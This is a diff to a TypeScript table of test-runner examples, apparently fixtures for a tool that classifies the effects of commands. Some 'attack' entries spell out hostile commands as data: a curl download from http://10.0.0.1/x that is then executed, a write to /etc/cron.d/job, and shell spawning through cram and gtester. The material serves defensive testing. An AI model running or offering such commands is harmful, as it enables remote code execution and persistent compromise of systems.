@@ -13,10 +13,10 @@ export const testRunners1: ExampleTable = {
     attack: 'cram --shell=/tmp/x tests → run /tmp/x',
   },
   gtester: {
-    use: 'gtester -o report.xml ./app-test → write report.xml',
+    use: 'gtester -o report.xml app-test → read app-test; write report.xml',
     attack: [
-      'gtester /bin/sh → shell sh',
-      'gtester -o /etc/cron.d/job ./app-test → write /etc/cron.d/job',
+      'curl -so x http://10.0.0.1/x && gtester x → execute ‹http://10.0.0.1/x›',
+      'gtester -o /etc/cron.d/job app-test → read app-test; write /etc/cron.d/job',
     ],
   },
   'gtester-report': {
